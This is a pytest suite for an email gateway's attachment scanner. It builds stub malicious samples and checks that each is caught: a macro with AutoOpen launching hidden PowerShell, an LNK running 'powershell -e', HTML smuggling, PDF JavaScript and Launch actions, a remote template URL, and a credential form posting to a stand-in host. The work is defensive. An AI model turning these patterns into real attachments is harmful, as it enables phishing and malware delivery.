"""Attachments built as real files: each malicious one caught with its symbol, the files a
practice receives every day pass clean."""

from __future__ import annotations

import io
import struct
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest

from gateway.cli import to_crlf
from gateway.message import Inbound
from gateway.runtime import Runtime
from gateway.service import build_runtime
from gateway.symbols import Action
from gateway.yara_rules import compile_rules
from tests.conftest import CORPUS, DOMAIN, make_config
from tests.support.ole import word_document_with_macro

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + \
    b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00\x4c\x01" + b"\x00" * 300


def zip_of(files: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def encrypted(zip_bytes: bytes) -> bytes:
    """Mark every member encrypted (general purpose bit 0), as a password-protected zip is."""
    data = bytearray(zip_bytes)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        while pos >= 0:
            flags = struct.unpack_from("<H", data, pos + off)[0]
            struct.pack_into("<H", data, pos + off, flags | 1)
            pos = data.find(sig, pos + 4)
    return bytes(data)


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>",
                   "word/document.xml": b"<w:document><w:body>Compte rendu</w:body></w:document>",
                   **(extra or {})})


def xlsx() -> bytes:
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>",
                   "xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"<worksheet/>"})


def pdf(extra: bytes = b"") -> bytes:
    return (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R " + extra + b">> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n"
            b"%%EOF\n")


SMUGGLING = (b"<html><body><script>var b64='" + b"QUJD" * 4000 + b"';"
             b"var bin=atob(b64);var a=new Uint8Array(bin.length);"
             b"var blob=new Blob([a]);var l=document.createElement('a');"
             b"l.href=URL.createObjectURL(blob);l.download='facture.iso';l.click();"
             b"</script></body></html>")
LNK = (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
       + b"\x00" * 60 + "C:\\Windows\\System32\\cmd.exe /c powershell -e ".encode("utf-16-le"))
# A real compound file (Word 97-2003) with a VBA project, parsed by oletools.
OLE = word_document_with_macro('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
                               '  Shell "cmd.exe /c powershell -nop -w hidden"\r\nEnd Sub\r\n')
ISO = b"\x00" * 0x8001 + b"CD001\x01\x00" + b"\x00" * 2000
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + \
    b"\xff\xdb\x00\x43\x00" + bytes(range(64)) + b"\xff\xd9"
DICOM = b"\x00" * 128 + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00\xc8\x00\x00\x00" + b"\x00" * 300
HPRIM = (b"H|\\^&|||LABO^Laboratoire Exemple|||||||P|H2.1\r\nP|1|||DUPONT^JEAN\r\n"
         b"OBX|1|NM|GLU^Glycemie||5.4|mmol/l\r\nL|1|N\r\n")
CDA = (b'<?xml version="1.0" encoding="UTF-8"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">'
       b"<title>Compte rendu</title></ClinicalDocument>\n")

MALICIOUS = {
    "pe renamed pdf": ("facture.pdf", PE, {"ATTACH_TYPE_MISMATCH"}),
    "docm with vbaProject.bin": ("courrier.docm",
                                 docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64}),
                                 {"ATTACH_OFFICE_MACRO"}),
    "ole with AutoOpen": ("ordonnance.doc", OLE, {"ATTACH_OFFICE_MACRO", "ATTACH_MACRO_AUTOEXEC",
                                                  "YARA_OFFICE_AUTOEXEC"}),
    "pdf OpenAction JavaScript": ("resultats.pdf", pdf(b"/OpenAction << /S /JavaScript /JS "
                                                       b"(app.alert(1)) >> "),
                                  {"ATTACH_PDF_JAVASCRIPT", "ATTACH_PDF_AUTO_ACTION",
                                   "YARA_PDF_JS_ACTION"}),
    "pdf with escaped name": ("scan.pdf", pdf(b"/OpenAction << /S /J#61vaScript /JS (x) >> "),
                              {"ATTACH_PDF_JAVASCRIPT"}),
    "html smuggling": ("document.html", SMUGGLING,
                       {"ATTACH_HTML_SMUGGLING", "YARA_HTML_SMUGGLING"}),
    "iso": ("dossier.iso", ISO, {"ATTACH_DANGEROUS_TYPE"}),
    "lnk": ("document.pdf.lnk", LNK, {"ATTACH_DANGEROUS_TYPE", "YARA_LNK_COMMAND",
                                      "ATTACH_DOUBLE_EXTENSION"}),
    "eicar": ("eicar.txt", EICAR, {"YARA_EICAR"}),
    "zip holding an exe": ("archive.zip", zip_of({"lisezmoi.txt": b"ok", "setup.exe": PE}),
                           {"ATTACH_EXEC_IN_ARCHIVE"}),
    "encrypted zip": ("protege.zip", encrypted(zip_of({"facture.pdf": pdf()})),
                      {"ATTACH_ENCRYPTED_ARCHIVE"}),
    "3-level nested zip": ("a.zip", zip_of({"b.zip": zip_of({"c.zip": zip_of({"d.txt": b"x"})})}),
                           {"ATTACH_NESTED_ARCHIVE"}),
    "zip bomb": ("bombe.zip", zip_of({"zeros.bin": b"\x00" * 60_000_000}),
                 {"ATTACH_ARCHIVE_BOMB"}),
    "rtlo name": ("facture\u202efdp.exe", PE, {"ATTACH_RTLO_NAME", "ATTACH_DANGEROUS_TYPE"}),
    "remote template": ("courrier.docx", docx({"word/_rels/settings.xml.rels": (
        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://203.0.113.9/modele.dotm" TargetMode="External"/></Relationships>')}),
        {"ATTACH_REMOTE_TEMPLATE"}),
    "credential form": ("connexion.html", b'<html><body><form method="post" '
                        b'action="https://collecte.example/login.php"><input name="email">'
                        b'<input type="password" name="mdp"></form></body></html>',
                        {"ATTACH_HTML_CREDENTIAL_FORM"}),
}
CLEAN = {
    "pdf": ("compte-rendu.pdf", pdf()),
    "docx": ("courrier.docx", docx()),
    "xlsx": ("honoraires.xlsx", xlsx()),
    "jpeg": ("photo.jpg", JPEG),
    "dicom": ("irm.dcm", DICOM),
    "hprim": ("resultats.hpr", HPRIM),
    "cda": ("cr.xml", CDA),
}


def message_with(name: str, data: bytes) -> bytes:
    m = EmailMessage()
    m["From"] = "Laboratoire <resultats@labo.example>"
    m["To"] = f"docteur@{DOMAIN}"
    m["Subject"] = "Document"
    m["Date"] = "Sat, 28 Nov 2026 10:00:00 +0100"
    m["Message-ID"] = "<att@labo.example>"
    m.set_content("Veuillez trouver le document ci-joint.")
    m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return to_crlf(bytes(m))


async def analyse(rt: Runtime, raw: bytes):
    return (await rt.pipeline.analyse(Inbound(
        queue_id="t", peer_ip="192.0.2.1", helo="mail.labo.example", mail_from="",
        rcpts=(f"docteur@{DOMAIN}",), raw=raw))).verdict


@pytest.mark.parametrize("case", list(MALICIOUS))
async def test_malicious_attachment_is_caught(runtime, case):
    name, data, expected = MALICIOUS[case]
    v = await analyse(runtime, message_with(name, data))
    got = {s.name for s in v.symbols}
    assert expected <= got, (case, got)
    if case != "3-level nested zip":  # nesting alone is a weak signal
        assert v.action is not Action.ACCEPT, (case, v.action)
    for s in v.symbols:
        assert "{name}" not in s.description


def pdf_with_object_stream(objects: bytes) -> bytes:
    """A PDF 1.5 whose objects sit in a compressed object stream: none of their keys appears
    in the file's bytes."""
    import zlib
    packed = zlib.compress(b"2 0 " + objects)
    return (b"%PDF-1.5\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
            + str(len(packed)).encode() + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n"
            b"trailer << /Root 2 0 R >>\n%%EOF\n")


@pytest.mark.parametrize("case", ["pdf OpenAction JavaScript", "pdf with escaped name",
                                  "pdf document JavaScript", "pdf launch", "html smuggling",
                                  "pdf JavaScript in an object stream"])
async def test_active_content_is_held_not_tagged(runtime, case):
    """A PDF with JavaScript or a launch action, or an HTML page that builds and downloads a
    file: a tag would leave it one click away from running; it is held."""
    own = {"pdf launch": ("ordre.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >> ")),
           "pdf document JavaScript": ("formulaire.pdf", pdf(b"/Names << /JavaScript << /Names "
                                                             b"[(init) 3 0 R] >> >> ")),
           "pdf JavaScript in an object stream": ("releve.pdf", pdf_with_object_stream(
               b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"))}
    name, data = own[case] if case in own else MALICIOUS[case][:2]
    v = await analyse(runtime, message_with(name, data))
    assert v.action in (Action.QUARANTINE, Action.REJECT), (case, v.action, v.symbols)


@pytest.mark.parametrize("case", list(CLEAN))
async def test_everyday_medical_files_pass_clean(runtime, case):
    name, data = CLEAN[case]
    v = await analyse(runtime, message_with(name, data))
    flagged = {s.name for s in v.symbols if s.name.startswith(("ATTACH_", "YARA_"))}
    assert not flagged, (case, flagged)
    assert v.action is Action.ACCEPT


async def test_banner_names_the_disguised_file(runtime):
    v = await analyse(runtime, message_with("facture.pdf", PE))
    [s] = [s for s in v.symbols if s.name == "ATTACH_TYPE_MISMATCH"]
    assert s.description == ("La pièce jointe facture.pdf est en réalité un programme, déguisé "
                             "sous un autre type de fichier.")


YARA_SETS = sorted(CORPUS.glob("yara-rules-*")) if CORPUS.is_dir() else []


@pytest.mark.parametrize("folder", YARA_SETS, ids=[p.name for p in YARA_SETS])
def test_third_party_yara_sets_load_with_a_report(folder: Path, record_property):
    rules = compile_rules([folder])
    report = rules.report
    record_property("yara", f"{folder.name}: {report.files} files, {report.rules} rules loaded, "
                            f"{len(report.rejected)} files rejected")
    print(f"\n{folder.name}: {report.files} files, {report.rules} rules loaded, "
          f"{len(report.rejected)} files rejected")
    assert report.files > 0 and report.rules > 0
    for path, error in report.rejected.items():
        assert path and error  # each rejected file is named with its compiler error
    assert rules.scan(EICAR) is not None


async def test_macro_analysis_that_overruns_is_killed_and_held(tmp_path: Path):
    """oletools is stopped past its own limit (here as soon as it starts), in the worker
    process, and the message is held."""
    cfg = make_config(tmp_path, attachments={"macro_timeout_s": 1e-6})
    rt = await build_runtime(cfg, with_store=False)
    try:
        v = await analyse(rt, message_with("ancien.doc", OLE))
    finally:
        await rt.close()
    assert "ATTACH_ANALYSIS_TIMEOUT" in {s.name for s in v.symbols}
    assert v.action is Action.QUARANTINE


THIRD_PARTY_RULE = """
rule Tiers_Motif_Test
{
    meta:
        symbol = "YARA_TIERS_MOTIF"
        score = 12
        action = "quarantine"
        description_fr = "La pièce jointe {name} contient le motif d'un ensemble de règles tiers."
    strings:
        $a = "motif-tiers-du-test-7"
    condition:
        $a
}
"""


async def test_a_third_party_rule_brings_its_own_symbol_without_a_code_change(tmp_path: Path):
    extra = tmp_path / "tiers"
    extra.mkdir()
    (extra / "tiers.yar").write_text(THIRD_PARTY_RULE, encoding="utf-8")
    cfg = make_config(tmp_path / "d", attachments={"yara_dirs": [str(extra)]})
    rt = await build_runtime(cfg, with_store=False)
    try:
        v = await analyse(rt, message_with("note.txt", b"debut motif-tiers-du-test-7 fin"))
    finally:
        await rt.close()
    (hit,) = [s for s in v.symbols if s.name == "YARA_TIERS_MOTIF"]
    assert hit.score == 12 and v.action is Action.QUARANTINE
    assert hit.description == ("La pièce jointe note.txt contient le motif d'un ensemble de "
                               "règles tiers.")


def test_a_symbol_given_a_policy_twice_is_refused(tmp_path: Path):
    from gateway.errors import ConfigError
    from gateway.service import load_rules
    from gateway.workers import Workers

    extra = tmp_path / "tiers"
    extra.mkdir()
    (extra / "twice.yar").write_text(THIRD_PARTY_RULE.replace("YARA_TIERS_MOTIF", "YARA_EICAR"),
                                     encoding="utf-8")
    cfg = make_config(tmp_path / "d", attachments={"yara_dirs": [str(extra)]})
    with pytest.raises(ConfigError, match="YARA_EICAR also given a score"):
        load_rules(cfg, Workers())


@pytest.mark.parametrize(("from_field", "unparsable"), [
    ('"ceo@cabinet.test\\" <attaquant@evil.example>', True),  # the parser gave up half-way
    ("(commentaire", True),
    ('"Dupont, Jean" <j.dupont@labo.example>', False),
    ("Laboratoire <resultats@labo.example>", False),
])
async def test_a_from_address_read_half_way_is_unparsable(runtime, from_field, unparsable):
    raw = (f"From: {from_field}\r\nTo: docteur@{DOMAIN}\r\nSubject: x\r\n"
           f"Date: Sat, 28 Nov 2026 10:00:00 +0100\r\nMessage-ID: <u@labo.example>\r\n\r\n"
           f"corps\r\n").encode()
    names = {s.name for s in (await analyse(runtime, raw)).symbols}
    assert ("FROM_UNPARSABLE" in names) == unparsable, names


@pytest.mark.parametrize("name", ["Profil-securite.mobileconfig", "mise-a-jour.pkg",
                                  "facture.dmg", "raccourci.settingcontent-ms"])
async def test_apple_profiles_installers_and_shell_shortcuts_are_dangerous(runtime, name):
    v = await analyse(runtime, message_with(name, b"<?xml version='1.0'?><plist></plist>"))
    assert "ATTACH_DANGEROUS_TYPE" in {s.name for s in v.symbols}
